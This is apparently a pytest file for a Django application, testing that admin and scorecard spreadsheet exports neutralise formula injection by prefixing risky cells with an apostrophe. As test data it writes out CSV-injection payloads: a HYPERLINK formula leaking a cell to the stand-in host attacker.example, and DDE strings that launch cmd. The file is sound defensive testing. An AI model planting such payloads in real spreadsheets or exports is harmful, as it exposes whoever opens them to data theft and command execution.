"""Spreadsheet exports never carry a live formula (``roles.md``: exports neutralise cells
that begin with ``=``, ``+``, ``-``, ``@``, tab or carriage return).

The Django admin's exports (django-import-export) and our own writers share one
neutraliser, ``organisations.spreadsheets.formula_neutralise``: such a cell reaches the
reader prefixed with an apostrophe, as text.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from openpyxl import load_workbook

from organisations.models import LocalAuthority, Worker
from organisations.resources import WorkerResource
from organisations.spreadsheets import FORMATS, formula_neutralise, formula_restore
from scorecards.exports import safe_text

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A2,"Click")'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        (AT_SUM, "'" + AT_SUM),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("==1+1", "'==1+1"),
        # Leading spaces and full-width signs are read as formulas by some programs.
        ("  =1+1", "'  =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Senior practitioner", "Senior practitioner"),
        ("Team = East", "Team = East"),
        ("", ""),
    ],
)
def test_formula_like_text_is_neutralised_and_ordinary_text_is_not(text, shown):
    assert formula_neutralise(text) == shown
    assert safe_text(text) == shown  # the scorecard and worklist writers use the same rule
    assert formula_restore(shown) == text


def test_an_apostrophe_the_author_typed_is_kept_on_import():
    assert formula_restore("'quoted") == "'quoted"


@pytest.fixture
def nasty_worker(db):
    la = LocalAuthority.objects.get(code="873")
    return Worker.objects.create(
        la=la, professional_id="W-1", name=HYPERLINK, job_title=DDE, department=AT_SUM
    )


@pytest.fixture
def root_client(client, db, settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    root = get_user_model().objects.create_superuser("root-formulas", "r@example.invalid", "x")
    client.force_login(root)
    return client


def _admin_export(client, fmt_class) -> bytes:
    """POST the worker admin's export form, all fields selected, in ``fmt_class``."""
    fields = WorkerResource().get_export_order()
    data = {"format": str(FORMATS.index(fmt_class)), "resource": "0"}
    data.update({f"workerresource_{name}": "on" for name in fields})
    response = client.post(reverse("admin:organisations_worker_export"), data)
    assert response.status_code == 200, response.content[:500]
    return response.content


def test_the_admin_offers_only_formula_safe_spreadsheet_formats(root_client):
    response = root_client.get(reverse("admin:organisations_worker_export"))
    choices = response.context["form"].fields["format"].choices
    offered = [label for value, label in choices if value != ""]
    assert offered == ["csv", "xlsx", "tsv", "json"]


def test_the_admin_csv_export_neutralises_a_worker_named_as_a_formula(root_client, nasty_worker):
    from organisations import spreadsheets

    content = _admin_export(root_client, spreadsheets.CSV).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(content)))
    assert len(rows) == 1
    assert rows[0]["name"] == "'" + HYPERLINK
    assert rows[0]["job_title"] == "'" + DDE
    assert rows[0]["department"] == "'" + AT_SUM
    assert rows[0]["professional_id"] == "W-1"


def test_the_admin_xlsx_export_writes_text_cells_never_formula_cells(root_client, nasty_worker):
    from organisations import spreadsheets

    sheet = load_workbook(io.BytesIO(_admin_export(root_client, spreadsheets.XLSX))).active
    header = [c.value for c in sheet[1]]
    row = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    for column, text in (("name", HYPERLINK), ("job_title", DDE), ("department", AT_SUM)):
        assert row[column].data_type == "s"  # openpyxl would give "f" to a formula
        assert row[column].value == "'" + text
    assert not any(c.data_type == "f" for line in sheet.iter_rows() for c in line)


def test_an_exported_csv_imports_back_unchanged(nasty_worker):
    from organisations import spreadsheets

    fmt = spreadsheets.CSV()
    exported = fmt.export_data(WorkerResource().export())
    dataset = fmt.create_dataset(exported)
    assert dataset.dict[0]["name"] == HYPERLINK
    assert dataset.dict[0]["job_title"] == DDE
